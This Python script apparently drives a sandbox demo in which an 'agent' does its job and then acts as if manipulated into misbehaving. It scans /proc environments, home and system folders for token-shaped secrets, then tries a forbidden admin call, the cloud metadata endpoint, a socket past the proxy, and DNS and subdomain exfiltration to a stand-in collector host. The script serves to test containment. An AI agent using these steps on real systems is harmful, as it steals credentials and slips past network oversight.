"""The demo's "agent": does its job, then what an agent does that was talked into something. Prints JSON lines.

It runs inside the jail and is told no secret: it looks for whatever has the token's shape.
"""

import errno
import itertools
import json
import os
import re
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator

HOST = "api.demo.test"
SHAPE = re.compile(rb"demo_[A-Za-z0-9]{36}")
MAX_FILE = 4 << 20  # bytes read of one file
MAX_FILES = 20_000


def request(method: str, url: str) -> dict[str, object]:
    """One request with the token the environment offers, through whatever proxy it names."""
    made = urllib.request.Request(url, method=method, data=b"{}" if method == "POST" else None)
    made.add_header("Authorization", f"Bearer {os.environ.get('DEMO_TOKEN', '')}")
    try:
        with urllib.request.urlopen(made, timeout=10) as response:
            return {"status": response.status}
    except urllib.error.HTTPError as error:
        body = json.loads(error.read())["error"]
        return {"status": error.code, "code": body["code"], "message": body["message"]}
    except OSError as error:
        return {"error": str(error)}


def files_to_search(tops: tuple[str, ...]) -> Iterator[str]:
    """What might hold a token: /proc of every process, then the trees."""
    for process in (name for name in os.listdir("/proc") if name.isdigit()):
        yield from (f"/proc/{process}/{name}" for name in ("environ", "cmdline"))
    for top in tops:
        for folder, _, names in os.walk(top):
            yield from (os.path.join(folder, name) for name in names)


def search(tops: tuple[str, ...]) -> dict[str, object]:
    """Tokens found, and where; and how much could not be read."""
    tokens: dict[str, str] = {}
    closed = 0
    for path in itertools.islice(files_to_search(tops), MAX_FILES):
        try:
            with open(path, "rb") as file:
                data = file.read(MAX_FILE)
        except OSError:
            closed += 1
            continue
        for token in SHAPE.findall(data):
            tokens.setdefault(token.decode(), path)
    for name, value in os.environ.items():
        for token in SHAPE.findall(value.encode()):
            tokens.setdefault(token.decode(), f"${name}")
    return {"tokens": tokens, "closed": closed}


def dial(address: str) -> dict[str, object]:
    """A plain connection, past the proxy."""
    try:
        socket.create_connection((address, 80), timeout=5).close()
    except OSError as error:
        return {"errno": errno.errorcode.get(error.errno or 0, str(error))}
    return {"connected": True}


def look_up(name: str) -> dict[str, object]:
    """What the resolver says."""
    try:
        return {"address": socket.getaddrinfo(name, 443, socket.AF_INET)[0][4][0]}
    except OSError as error:
        return {"error": str(error)}


def say(step: str, result: dict[str, object]) -> None:
    """One line for the demo."""
    print(json.dumps({"step": step, **result}), flush=True)


def main() -> None:
    """The job, then the rest."""
    if sys.argv[1:] == ["search"]:  # the control, outside the jail
        say("search", search((os.getcwd(),)))
        return
    say("read", request("GET", f"https://{HOST}/v1/issues"))
    say("write", request("POST", f"https://{HOST}/v1/issues"))
    say("search", search((os.path.expanduser("~"), os.getcwd(), "/etc", "/run", "/tmp", "/var/tmp", "/dev/shm")))
    say("other path", request("DELETE", f"https://{HOST}/v1/admin/keys"))
    say("other host", request("GET", "https://collector.demo.test/upload"))
    say("address", request("GET", "https://192.0.2.10/v1/issues"))
    say("metadata", request("GET", "http://169.254.169.254/latest/meta-data/"))
    say("dial", dial("192.0.2.10"))
    data = b"stolen data".hex()
    say("look up", look_up(f"{data}.collector.demo.test"))
    say("carried", request("GET", f"https://{data}.collector.demo.test/"))


if __name__ == "__main__":
    main()
